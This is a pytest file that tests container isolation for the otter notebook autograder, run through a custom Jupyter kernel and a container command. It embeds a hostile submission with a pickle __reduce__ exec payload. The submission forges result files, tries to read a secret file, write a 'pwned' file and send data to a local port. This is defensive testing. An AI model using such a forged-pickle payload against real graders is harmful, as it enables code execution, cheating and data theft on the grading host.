"""Submissions graded by otter without Docker: in the kernel that shadows ``python3``, and in a container as a whole."""

import json
import os
import socket
import subprocess
import sys
import zipfile
from pathlib import Path

import nbformat
import pytest

from container_magic.cgroups.facts import probe
from container_magic.kernel.kernelspec import Installation, install

pytestmark = [pytest.mark.xdist_group("otter"), pytest.mark.slow, pytest.mark.timeout(300)]

BIN = Path(sys.executable).parent
LIMITS = ("--mem", "1G", "--pids", "64") if "memory" in probe().controllers else ("--best-effort",)
TESTS = """
from otter.test_files import test_case
OK_FORMAT = False
name = "square"
points = 4

@test_case()
def test_three(square):
    assert square(3) == 9

@test_case(hidden=True)
def test_twelve(square):
    assert square(12) == 144
"""
GOOD = "def square(x):\n    return x ** 2"
CHEATED = "def square(x):\n    return 9"
EVIDENCE = """
import json, os, socket
manager = open("/run/host/container-manager").read() if os.path.exists("/run/host/container-manager") else ""
json.dump([manager.strip(), socket.gethostname()], open({path!r}, "w"))
"""
# otter's results are a pickle that a cell writes and the grader loads, so that they are code: here they are forged in
# the files, and in the function that writes them
HOSTILE = """
import glob, os, pickle, tempfile
attack = '''
import socket
try:
    print("READ", open({secret!r}).read())
except OSError:
    print("READ nothing")
try:
    open({target!r}, "w").write("pwned")
except OSError:
    pass
try:
    socket.create_connection(("127.0.0.1", {port}), 2).sendall(b"solution")
except OSError:
    pass
print("ATTACKED", flush=True)
'''
exec(attack, {{}})
class Forged:
    def __reduce__(self):
        return exec, (attack, {{}})
forged = pickle.dumps(Forged())
folders = [tempfile.gettempdir(), os.path.dirname({target!r}), ".", "../results", "../.."]
near = [path for folder in folders for path in glob.glob(folder + "/*.pkl")]
for path in near + ["../results/results.pkl", "results.pkl"]:
    try:
        open(path, "wb").write(forged)
    except OSError:
        pass
pickle.dump = lambda obj, file, *rest, **how: file.write(forged)
def square(x):
    return "forged"
"""

GRADE = """
import json, sys
from otter.api import grade_submission
results = grade_submission(sys.argv[1], quiet=True)
shown = [output.get("text", "") for cell in results.notebook.cells for output in cell.get("outputs", [])]
print(json.dumps([results.total, "".join(shown)]))
"""


def write(path, *cells, kernel="python3"):
    """Write a submission, whose metadata are the student's."""
    spec = {"kernelspec": {"name": kernel, "display_name": kernel, "language": "python"}}
    code = [nbformat.v4.new_code_cell(cell) for cell in cells]
    nbformat.write(nbformat.v4.new_notebook(cells=code, metadata=spec), path)


class Desk:
    """The directory of whoever grades: the tests as otter packs them, submissions, and a file that is nobody's."""

    def __init__(self, home):
        self.home, self.folder, self.temporary = home, home / "grading", home / "temporary"
        for directory in (self.folder, self.temporary, self.folder / "tests"):
            directory.mkdir()
        self.secret = home / "secret"
        self.secret.write_text("the solution")
        (self.folder / "tests" / "square.py").write_text(TESTS)
        with zipfile.ZipFile(self.folder / "autograder.zip", "w") as packed:
            packed.writestr("otter_config.json", json.dumps({"lang": "python"}))
            packed.writestr("tests/square.py", TESTS)

    def install(self, *words):
        """Put a kernel before the environment's own ``python3``."""
        kernels = str(self.home / "data" / "kernels")
        install(
            Installation(name="python3", display_name="grading", kernels_directory=kernels, words=(*LIMITS, *words))
        )

    def run(self, *words):
        """Run a program of this environment."""
        environment = os.environ | {
            "HOME": str(self.home),
            "TMPDIR": str(self.temporary),  # where otter copies what it runs, and awaits its results
            "JUPYTER_PREFER_ENV_PATH": "0",
            "JUPYTER_DATA_DIR": str(self.home / "data"),
            "JUPYTER_RUNTIME_DIR": str(self.home / "runtime"),
            "IPYTHONDIR": str(self.home / "ipython"),
        }
        command = [BIN / words[0], *words[1:]]
        return subprocess.run(
            command, cwd=self.folder, env=environment, capture_output=True, text=True, timeout=100, check=False
        )

    def grade(self, submission, *around):
        """Run ``otter run``, maybe as the command of another; return what it says, and what it writes of the points."""
        words = ("otter", "run", "--no-logo", "--autograder", "autograder.zip", submission)
        done = self.run(*around, *words)
        path = self.folder / "results.json"
        results = json.loads(path.read_text()) if path.exists() else {}
        path.unlink(missing_ok=True)
        return done, results

    def evidence(self):
        """Return the path for what a submission has seen, and its cell."""
        path = self.temporary / "seen.json"
        return path, EVIDENCE.format(path=str(path))

    def write_hostile(self, port):
        """Write a submission that reads, writes, connects and forges; return what it would write outside."""
        target = self.home / "pwned"
        write(self.folder / "hostile.ipynb", HOSTILE.format(secret=str(self.secret), target=str(target), port=port))
        return target


@pytest.fixture
def desk(tmp_path):
    """Return a desk to grade at."""
    return Desk(tmp_path)


@pytest.fixture
def listener():
    """Return a port of this host that nobody inside may reach."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.settimeout(0.1)
        yield listener


def points(results):
    """Return what a submission has got, of how much."""
    return [(test["score"], test["max_score"]) for test in results["tests"] if "score" in test]


def test_otter_run_grades_in_the_kernel_that_shadows_python3(desk):
    """Points are right, hidden tests count, and the cells saw a container; the results come over a volume."""
    desk.install("-v", f"{desk.temporary}:{desk.temporary}")
    seen, cell = desk.evidence()
    write(desk.folder / "good.ipynb", cell, GOOD)
    write(desk.folder / "cheat.ipynb", CHEATED)
    done, results = desk.grade("good.ipynb")
    assert points(results) == [(4, 4)], done.stdout + done.stderr
    assert points(desk.grade("cheat.ipynb")[1]) == [(2, 4)]
    manager, hostname = json.loads(seen.read_text())
    assert manager == "container_magic"
    assert hostname != socket.gethostname()


def test_otter_check_runs_in_the_kernel_that_shadows_python3_whichever_the_notebook_names(desk):
    """A submission cannot choose another kernel: the cells saw a container, and what fails is said."""
    desk.install("-v", f"{desk.temporary}:{desk.temporary}")
    seen, cell = desk.evidence()
    write(desk.folder / "cheat.ipynb", cell, CHEATED, kernel="another")
    done = desk.run("otter", "check", "cheat.ipynb")
    assert "square results" in done.stdout and "All tests passed" not in done.stdout, done.stderr
    assert json.loads(seen.read_text())[0] == "container_magic"


def test_hostile_submission_without_a_volume_reaches_neither_grader_nor_host(desk, listener):
    """Otter gets no results from such a kernel, forged ones neither: no points, and nothing of the host is read."""
    desk.install()
    target = desk.write_hostile(listener.getsockname()[1])
    done = desk.run("python", "-c", GRADE, "hostile.ipynb")
    (line,) = done.stdout.splitlines()  # the grader itself has not run the attack, which would have printed
    total, shown = json.loads(line)
    assert total == 0
    assert "READ nothing\nATTACKED\n" in shown
    with pytest.raises(TimeoutError):
        listener.accept()
    assert not target.exists()


def test_otter_in_a_container_grades_and_what_a_submission_does_to_it_stays_inside(desk, listener):
    """A forged result runs in the process that grades, which is in the container too; the honest get their points."""
    around = ("contain", "run", *LIMITS, "--work", "overlay", "--out-file", "results.json", "--")
    write(desk.folder / "good.ipynb", GOOD)
    done, results = desk.grade("good.ipynb", *around)
    assert points(results) == [(4, 4)], done.stdout + done.stderr

    target = desk.write_hostile(listener.getsockname()[1])
    done, results = desk.grade("hostile.ipynb", *around)
    assert "ATTACKED" in done.stdout and "READ nothing" in done.stdout, done.stderr
    assert (done.returncode, results) == (1, {})
    with pytest.raises(TimeoutError):
        listener.accept()
    assert not target.exists()
    assert sorted(path.name for path in desk.folder.iterdir()) == [
        "autograder.zip",
        "good.ipynb",
        "hostile.ipynb",
        "tests",
    ]
